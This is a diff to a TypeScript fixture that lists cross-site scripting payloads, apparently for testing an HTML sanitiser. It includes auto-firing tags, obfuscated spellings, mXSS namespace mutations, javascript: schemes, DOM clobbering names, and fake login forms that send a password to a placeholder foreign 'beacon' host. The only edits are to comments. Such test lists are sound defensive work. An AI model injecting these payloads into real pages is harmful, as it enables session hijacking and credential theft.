@@ -1,6 +1,6 @@
-/** What attacks by markup are made of. RUN stands for a script without quotes, FOREIGN for the origin of another site. */
+/** Parts of markup attacks. RUN stands for a script without quotes, FOREIGN for the origin of another site. */
 
-/** Markup that runs by itself where nobody cleans it. */
+/** Markup that runs a script without user action if it is not sanitised. */
 export const selfRunning: readonly string[] = [
   '<script>RUN</script>',
   '<img src=x onerror=RUN>',
@@ -12,7 +12,7 @@ export const selfRunning: readonly string[] = [
   '<input autofocus onfocus=RUN>',
 ]
 
-/** Ways to write one thing so that a cleaner and a browser read it differently. */
+/** Spellings that a sanitiser and a browser parse differently. */
 export const disguised: readonly string[] = [
   '<IMG SRC=x OnErRoR=RUN>',
   '<img/src=x/onerror=RUN>',
@@ -76,7 +76,7 @@ export const disguised: readonly string[] = [
   '<isindex action=javascript:RUN type=submit>',
 ]
 
-/** Texts that change their meaning when a browser reads back what another parser wrote (mXSS), by namespaces above all. */
+/** Texts whose meaning changes when a browser parses another parser's output (mXSS), mostly by namespaces. */
 export const mutating: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
@@ -130,7 +130,7 @@ export const mutating: readonly string[] = [
   '<svg><set attributeName=onmouseover to=RUN begin=0s></svg>',
 ]
 
-/** Events that come without anybody, and elements to which they come. */
+/** Events that fire without user action, and elements that they fire on. */
 export const events: readonly (readonly [tag: string, event: string])[] = [
   ...['onload', 'onerror', 'onpageshow', 'onresize', 'onscroll', 'onfocus'].map((event) => ['body', event] as const),
   ...['onload', 'onerror', 'onbegin', 'onend', 'onrepeat', 'onfocusin'].map((event) => ['svg', event] as const),
@@ -172,7 +172,7 @@ export const events: readonly (readonly [tag: string, event: string])[] = [
   ].flatMap((event) => ['p', 'td', 'a href=/help', 'h2'].map((tag) => [tag, event] as const)),
 ]
 
-/** Addresses that run or lead where no link of a page may. */
+/** Addresses that run scripts or that a page's link must not use. */
 export const schemes: readonly string[] = [
   'javascript:RUN',
   'JaVaScRiPt:RUN',
@@ -194,7 +194,7 @@ export const schemes: readonly string[] = [
   'view-source:javascript:RUN',
 ]
 
-/** Elements that take an address; ADDRESS stands for it. */
+/** Elements with an address; ADDRESS stands for it. */
 export const carriers: readonly string[] = [
   '<a href="ADDRESS">x</a>',
   '<iframe src="ADDRESS"></iframe>',
@@ -208,7 +208,7 @@ export const carriers: readonly string[] = [
   '<img src="ADDRESS">',
 ]
 
-/** What parses its content in a way of its own; CONTENT stands for what is inside. */
+/** Elements with special parsing of their content; CONTENT stands for it. */
 export const contexts: readonly string[] = [
   ...[
     'title',
@@ -242,7 +242,7 @@ export const contexts: readonly string[] = [
   '<!-- x -->CONTENT<!-- y -->',
 ]
 
-/** Pages that pose as the portal: a sign-in that sends elsewhere, things laid over it, other addresses for its links. */
+/** Pages that imitate the portal: a sign-in form that sends data elsewhere, overlays, a changed base for links. */
 export const posing: readonly string[] = [
   '<form action="FOREIGN/beacon" method=post><input name=account><input type=password name=password><button>Увійти</button></form>',
   '<form action="FOREIGN/beacon"><input type=password name=p value=1></form><script>document.forms[0].submit()</script>',
@@ -272,7 +272,7 @@ export const posing: readonly string[] = [
   '<script src="FOREIGN/beacon"></script>',
 ]
 
-/** Names that scripts of a page may ask `document` or `window` for. */
+/** Names that a page's scripts may read from `document` or `window`. */
 export const clobbering: readonly string[] = [
   ...['root', 'app', 'body', 'head', 'cookie', 'location', 'forms', 'getElementById', 'createElement', 'trustedTypes'],
   ...[
